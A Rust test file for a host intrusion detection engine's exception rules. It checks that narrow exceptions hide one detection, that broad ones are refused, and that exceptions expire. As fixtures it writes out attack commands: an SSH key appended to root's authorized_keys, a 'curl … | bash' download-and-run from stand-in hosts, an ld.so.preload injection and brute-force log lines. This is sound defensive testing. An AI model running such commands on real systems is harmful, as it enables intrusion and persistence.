//! For each module one exception that hides exactly one of two detections; near misses, ends, and what is refused.

use std::sync::Arc;

use minesweep_model::{
    Container, Detection, Event, Flow, HidingFact, HidingSign, Host, LogLine, Looked, Origin, Owner, Process,
    Protocol, What,
};

use super::{Draft, Exceptions};
use crate::{
    Engine, Output, Rules, Settings,
    testing::{at, exec, key, login, material, process},
};

/// 2026-11-25.
const NOW_MS: u64 = 1_795_564_800_000;
const DAY_MS: u64 = 86_400_000;

fn text(rules: &str, selection: &str) -> String {
    format!(
        "title: A test\nid: test-1\nauthor: ops\ndescription: It is ours.\ndate: 2026-11-24\n\
         logsource: {{product: minesweep, service: detection}}\n\
         filter:\n    rules: [{rules}]\n    selection: {selection}\n    condition: not selection\n\
         minesweep: {{expires: 2026-12-24, hosts: [web-1]}}\n"
    )
}

fn with(exception: &str) -> Engine {
    let files = material();
    let rules = Rules::compile(files.iter().map(|(path, text)| (path.as_str(), text.as_str()))).unwrap();
    let (rules, refused) = rules.with_exceptions([("test.yml", exception)]);
    assert_eq!(refused, []);
    let mut engine = Engine::new(Settings::default(), Arc::new(rules));
    for event in [machine("web-1"), began(1, 0, "/usr/lib/systemd/systemd", &[])] {
        let _nothing_yet = engine.observe(&event);
    }
    engine
}

fn machine(name: &str) -> Event {
    let host = Host { name: name.to_owned(), boot_id: "boot".to_owned(), cpus: 2, ..Host::default() };
    at(NOW_MS, What::Host(host))
}

fn began(pid: u32, parent: u32, exe: &str, argv: &[&str]) -> Event {
    let argv = argv.iter().map(|word| (*word).to_owned()).collect();
    exec(NOW_MS, &Process { argv, ..process(pid, parent, exe) })
}

fn told(engine: &mut Engine, events: &[Event], rule: &str) -> usize {
    let outputs: Vec<Output> = events.iter().flat_map(|event| engine.observe(event)).collect();
    let is_told = |output: &&Output| matches!(output, Output::Detection(found) if found.rule == rule);
    outputs.iter().filter(is_told).count()
}

/// One of two is hidden and counted once; the other is told.
fn hides_the_first(exception: &str, rule: &str, first: &[Event], second: &[Event]) {
    let mut open = with(&exception.replace("[web-1]", "[another-host]"));
    assert!(
        told(&mut open, first, rule) > 0 && told(&mut open, second, rule) > 0,
        "{rule} is told on another host"
    );
    let mut engine = with(exception);
    assert_eq!(told(&mut engine, first, rule), 0, "{rule} is hidden");
    let hidden = engine.excepted(NOW_MS).remove(0).hidden;
    assert!(hidden > 0, "{rule} is counted");
    assert!(told(&mut engine, second, rule) > 0, "{rule} of another is told");
    assert_eq!(engine.excepted(NOW_MS).remove(0).hidden, hidden, "what is told is not counted");
}

fn mines(pid: u32, exe: &str) -> [Event; 2] {
    let cookie = u16::try_from(pid).unwrap();
    [began(pid, 1, exe, &[]), login(NOW_MS + 1, pid, cookie, &format!("wallet-{pid}"))]
}

#[test]
fn mining_is_hidden_for_one_executable_and_weighs_nothing_there() {
    let exception = text("mining.stratum", "{Image: /opt/pool/checker}");
    hides_the_first(
        &exception,
        "mining.stratum",
        &mines(10, "/opt/pool/checker"),
        &mines(11, "/opt/pool/checker2"),
    );
    let mut engine = with(&exception);
    for event in mines(10, "/opt/pool/checker") {
        let _ = engine.observe(&event);
    }
    assert!(engine.incidents().is_empty(), "no evidence, no incident, no plan");
}

#[test]
fn a_sigma_rule_is_hidden_for_one_executable_with_its_file() {
    let events = |pid: u32, unit: &str| {
        let shell = ["/usr/bin/bash", "-c", &format!("echo ssh-rsa A >> {unit}")].map(str::to_owned);
        let java = began(pid, 1, "/usr/lib/jvm/java-17/bin/java", &["java", "-jar", "/opt/app/app.jar"]);
        let words: Vec<&str> = shell.iter().map(String::as_str).collect();
        [java, began(pid + 1, pid, "/usr/bin/bash", &words)]
    };
    let exception = text(
        "intrusion.application-dropper",
        "{Image: /usr/bin/bash, CommandLine: '/usr/bin/bash -c echo ssh-rsa A >> /root/.ssh/authorized_keys'}",
    );
    let (first, second) =
        (events(20, "/root/.ssh/authorized_keys"), events(30, "/home/a/.ssh/authorized_keys"));
    hides_the_first(&exception, "intrusion.application-dropper", &first, &second);
}

fn guesses(from: &str) -> Vec<Event> {
    let text = format!("Failed password for root from {from} port 4022 ssh2");
    let line = |number: u64| LogLine {
        source: "journal".to_owned(),
        program: "sshd".to_owned(),
        pid: Some(u32::try_from(number).unwrap() + 70),
        text: text.clone(),
    };
    (0..9).map(|number| at(NOW_MS + number * 1000, What::Log(Box::new(line(number))))).collect()
}

#[test]
fn guessing_is_hidden_from_one_source() {
    let exception = text("access.brute-force", "{RemoteIp: 10.2.0.9}");
    hides_the_first(&exception, "access.brute-force", &guesses("10.2.0.9"), &guesses("10.2.0.10"));
}

#[test]
fn a_command_is_hidden_for_one_script_of_an_interpreter() {
    let exception = text(
        "intrusion.download-run",
        "{Image: /usr/bin/bash, CommandLine: 'bash -c curl -s https://mirror.example.org/a | bash'}",
    );
    let run = |pid, from: &str| {
        [began(pid, 1, "/usr/bin/bash", &["bash", "-c", &format!("curl -s https://{from}/a | bash")])]
    };
    hides_the_first(
        &exception,
        "intrusion.download-run",
        &run(40, "mirror.example.org"),
        &run(41, "203.0.113.9"),
    );
}

fn fans_out(pid: u32, exe: &str) -> Vec<Event> {
    let flow = |number: u32| Flow {
        cookie: u64::from(pid * 1000 + number),
        process: Some(key(pid)),
        protocol: Protocol::Tcp,
        local: format!("10.0.0.1:{}", 20_000 + number).parse().unwrap(),
        remote: format!("10.9.{pid}.{}:22", number + 1).parse().unwrap(),
    };
    let connects = (0..40).map(|number| at(NOW_MS + u64::from(number), What::Connect(flow(number))));
    std::iter::once(began(pid, 1, exe, &[])).chain(connects).collect()
}

#[test]
fn spreading_is_hidden_for_one_executable() {
    let exception = text("network.fan-out-ssh", "{Image: /usr/local/bin/rollout}");
    let (first, second) = (fans_out(50, "/usr/local/bin/rollout"), fans_out(51, "/usr/local/bin/other"));
    hides_the_first(&exception, "network.fan-out-ssh", &first, &second);
}

fn preloads(library: &str) -> [Event; 1] {
    let fact = HidingFact::Preload {
        by: "/etc/ld.so.preload".to_owned(),
        library: library.to_owned(),
        owner: Owner::Nobody,
        exists: true,
    };
    [at(NOW_MS, What::Hiding(Box::new(HidingSign { process: None, fact })))]
}

#[test]
fn a_host_scan_is_hidden_from_one_source_and_told_of_another() {
    let scans = |from: &str| -> Vec<Event> {
        let flow = |port: u16| Flow {
            cookie: u64::from(port),
            process: Some(key(1)),
            protocol: Protocol::Tcp,
            local: format!("10.0.0.1:{port}").parse().unwrap(),
            remote: format!("{from}:40000").parse().unwrap(),
        };
        (0..30).map(|port| at(NOW_MS, What::Accept(flow(1000 + port)))).collect()
    };
    let exception = text("network.scan", "{RemoteIp|cidr: 10.7.0.0/24}");
    hides_the_first(&exception, "network.scan", &scans("10.7.0.4"), &scans("10.8.0.4"));
}

#[test]
fn hiding_is_hidden_for_one_file() {
    let mut engine = with(&text("mining.stratum", "{Image: /opt/x}"));
    let outputs = engine.observe(&preloads("/opt/apm/libapm.so")[0]);
    let Some(Output::Detection(found)) = outputs.first() else { panic!("{outputs:?}") };
    assert!(found.rule.starts_with("evasion."), "{}", found.rule);
    let exception = text(&found.rule, "{TargetFilename: /etc/ld.so.preload /opt/apm/libapm.so}");
    let (first, second) = (preloads("/opt/apm/libapm.so"), preloads("/tmp/libx.so"));
    hides_the_first(&exception, &found.rule.clone(), &first, &second);
}

#[test]
fn what_only_looks_alike_is_told() {
    let exception = text("mining.stratum", "{Image: /opt/pool/checker}");
    let of = |change: &dyn Fn(&mut Process)| {
        let mut miner = process(10, 1, "/opt/pool/checker");
        change(&mut miner);
        [exec(NOW_MS, &miner), login(NOW_MS + 1, 10, 3, "wallet")]
    };
    let count = |change: &dyn Fn(&mut Process)| told(&mut with(&exception), &of(change), "mining.stratum");
    assert_eq!(count(&|_| {}), 0);
    assert_eq!(count(&|one| one.exe = "/tmp/opt/pool/checker".to_owned()), 1, "another path");
    assert_eq!(count(&|one| one.origin = Origin::Memfd), 1, "a memory file may have any name");
    assert_eq!(count(&|one| one.origin = Origin::Deleted), 1, "a file that is gone may have been any");
    let container = Container { id: "c".repeat(64), runtime: "docker".to_owned() };
    assert_eq!(count(&|one| one.container = Some(container.clone())), 1, "a container brings its own files");
}

#[test]
fn an_exception_for_a_container_is_for_that_one() {
    let exception =
        text("mining.stratum", &format!("{{ContainerId: {}, Image: /app/miner}}", "c".repeat(64)));
    let of = |id: &str, pid: u32| {
        let container = Some(Container { id: id.repeat(64), runtime: "docker".to_owned() });
        let miner = Process { container, origin: Origin::OverlayUpper, ..process(pid, 1, "/app/miner") };
        [exec(NOW_MS, &miner), login(NOW_MS + 1, pid, u16::try_from(pid).unwrap(), &format!("wallet-{pid}"))]
    };
    hides_the_first(&exception, "mining.stratum", &of("c", 10), &of("d", 11));
}

#[test]
fn a_hash_hides_once_the_program_was_looked_at_and_no_longer_than_it_runs() {
    let exception = text("mining.stratum", &format!("{{sha256: {}}}", "ab".repeat(32)));
    let mut engine = with(&exception);
    let looked = Looked {
        process: process(10, 1, "/opt/a"),
        peers: Vec::new(),
        clues: Vec::new(),
        hits: Vec::new(),
        sha256: Some("ab".repeat(32)),
        maps_bytes: Vec::new(),
        rwx_maps: 0,
        unread: Vec::new(),
        stdio: Vec::new(),
    };
    let events =
        [began(10, 1, "/opt/a", &[]), at(NOW_MS, What::Looked(Box::new(looked))), login(NOW_MS, 10, 3, "w")];
    assert_eq!(told(&mut engine, &events, "mining.stratum"), 0);
    let events = [began(10, 1, "/opt/b", &[]), login(NOW_MS, 10, 4, "v")];
    assert_eq!(told(&mut engine, &events, "mining.stratum"), 1, "it became another program");
}

#[test]
fn an_exception_ends_on_its_day_and_says_so() {
    let exception = text("mining.stratum", "{Image: /opt/pool/checker}");
    let ends_ms = NOW_MS + 29 * DAY_MS;
    let at_time = |at_ms: u64| {
        let mut engine = with(&exception);
        let events = mines(10, "/opt/pool/checker").map(|event| at(at_ms, event.what));
        (told(&mut engine, &events, "mining.stratum"), engine.excepted(at_ms).remove(0))
    };
    let (told, count) = at_time(ends_ms - 1);
    assert_eq!((told, count.is_expired, count.hidden, count.last_ms), (0, false, 1, Some(ends_ms - 1)));
    let (told, count) = at_time(ends_ms);
    assert_eq!((told, count.is_expired, count.hidden, count.last_ms), (1, true, 0, None));
    assert_eq!((count.expires_ms, count.owner.as_str()), (ends_ms, "ops"));
}

fn refusal(text: &str) -> String {
    let (taken, refused) = Exceptions::load([("test.yml", text)]);
    assert!(taken.is_empty(), "{text}");
    let [one] = refused.as_slice() else { panic!("{refused:?}") };
    assert!(one.path == "test.yml" && !one.rule.is_empty());
    one.reason.clone()
}

#[test]
fn a_broad_exception_is_refused_with_the_remedy() {
    for selection in [
        "{User: root}",
        "{Image|startswith: /opt/}",
        "{Image|endswith: /checker}",
        "{Image: '*'}",
        "{Image|re: '^/opt/.*$'}",
        "{Image: checker}",
        "{Image: /usr/bin/python3.11}",
        "{Image: /usr/bin/bash, CommandLine|contains: backup}",
        "{CommandLine: 'backup --all'}",
        "{RemoteIp|cidr: 10.0.0.0/8}",
        "{RemoteIp|cidr: '2001:db8::/32'}",
        "{sha256: abcd}",
        "{ContainerId: abc}",
        "{Image|exists: true}",
        "[{Image: /opt/a}, {User: root}]",
    ] {
        let reason = refusal(&text("mining.stratum", selection));
        assert!(reason.contains("too broad") && reason.contains("add --from"), "{selection}: {reason}");
    }
    let but = text("mining.stratum", "{Image: /opt/a}").replace("not selection", "not (not selection)");
    assert!(refusal(&but).contains("too broad"), "what excepts everything else");
    let taken = [
        "{Image: /opt/a}",
        "{Image: [/opt/a, /opt/b], User: root}",
        "{RemoteIp|cidr: '2001:db8::/64'}",
        "{ContainerId|startswith: abcdefabcdef}",
        "[{Image: /opt/a}, {RemoteIp: 10.0.0.1}]",
    ];
    for selection in taken {
        let text = text("mining.stratum", selection);
        let (taken, refused) = Exceptions::load([("test.yml", text.as_str())]);
        assert!(taken.all().len() == 1 && refused.is_empty(), "{selection}: {refused:?}");
    }
}

#[test]
fn what_nobody_owns_dates_or_aims_is_refused_by_name() {
    let good = text("mining.stratum", "{Image: /opt/a}");
    for (from, to, wanted) in [
        ("author: ops\n", "", "author"),
        ("description: It is ours.\n", "description: ''\n", "description"),
        ("date: 2026-11-24\n", "date: soon\n", "soon"),
        ("expires: 2026-12-24, ", "", "expires"),
        ("2026-12-24", "2026-11-24", "ends before it begins"),
        ("2026-12-24", "2028-12-24", "longer than a year"),
        ("hosts: [web-1]", "hosts: []", "hosts"),
        ("rules: [mining.stratum]", "rules: any", "every rule"),
        ("rules: [mining.stratum]", "rules: ['mining.*']", "every rule"),
        ("Image:", "Imgae:", "Imgae"),
        ("service: detection", "category: process_creation", "category"),
        ("title: A test", "title: A test\nlevel: low", "level"),
    ] {
        let reason = refusal(&good.replace(from, to));
        assert!(reason.contains(wanted), "{to}: {reason}");
    }
}

#[test]
fn one_bad_exception_does_not_keep_the_rest_out() {
    let good = text("mining.stratum", "{Image: /opt/a}");
    let typing_error = text("mining.startum", "{Image: /opt/a}").replace("test-1", "test-2");
    let files = material();
    let rules = Rules::compile(files.iter().map(|(path, text)| (path.as_str(), text.as_str()))).unwrap();
    let all = [
        ("a.yml", "{"),
        ("b.yml", good.as_str()),
        ("c.yml", good.as_str()),
        ("d.yml", typing_error.as_str()),
    ];
    let (rules, refused) = rules.with_exceptions(all);
    assert_eq!(rules.exceptions().all().len(), 1);
    let paths: Vec<&str> = refused.iter().map(|one| one.path.as_str()).collect();
    assert_eq!(paths, ["a.yml", "c.yml", "d.yml"], "{refused:?}");
    assert!(refused[2].reason.contains("mining.startum"), "{refused:?}");
}

fn detection() -> Detection {
    let mut engine = with(&text("mining.stratum", "{Image: /opt/x}"));
    let events = [
        began(9, 1, "/usr/sbin/cron", &[]),
        began(10, 9, "/usr/bin/python3", &["python3", "/opt/a \"*?\\.py"]),
        login(NOW_MS + 1, 10, 3, "wallet"),
    ];
    let outputs: Vec<Output> = events.iter().flat_map(|event| engine.observe(event)).collect();
    let found = outputs.into_iter().find_map(|output| match output {
        Output::Detection(found) if found.rule == "mining.stratum" => Some(*found),
        Output::Detection(_) | Output::Incident { .. } | Output::Look(_) => None,
    });
    found.unwrap()
}

#[test]
fn a_draft_from_a_detection_hides_it_and_none_that_differs() {
    let (detection, host) = (detection(), Host { name: "web-1".to_owned(), ..Host::default() });
    let text = Draft::of(&detection, &host).text("ops", "ours", NOW_MS, NOW_MS + 90 * DAY_MS).unwrap();
    let (exceptions, refused) = Exceptions::load([("draft", text.as_str())]);
    assert_eq!(refused, []);
    assert!(exceptions.hides(&detection, &host).is_some(), "{text}");
    let differs = |change: &dyn Fn(&mut Detection)| {
        let mut other = detection.clone();
        change(&mut other);
        exceptions.hides(&other, &host).is_none()
    };
    assert!(differs(&|other| other.rule = "mining.randomx".to_owned()));
    assert!(differs(&|other| other.subject.as_mut().unwrap().argv.push("-x".to_owned())));
    assert!(differs(&|other| other.subject.as_mut().unwrap().uid = 1000));
    assert!(differs(&|other| other.parent.as_mut().unwrap().exe = "/usr/bin/bash".to_owned()));
    assert!(differs(&|other| other.remote = Some("203.0.113.10:3333".parse().unwrap())));
    assert!(exceptions.hides(&detection, &Host { name: "web-2".to_owned(), ..Host::default() }).is_none());
}

#[test]
fn a_detection_with_nothing_to_tell_it_by_makes_no_exception() {
    let (mut detection, host) = (detection(), Host { name: "web-1".to_owned(), ..Host::default() });
    (detection.subject, detection.parent, detection.remote) = (None, None, None);
    let error = Draft::of(&detection, &host).text("ops", "ours", NOW_MS, NOW_MS + DAY_MS).unwrap_err();
    assert!(!error.is_empty());
}
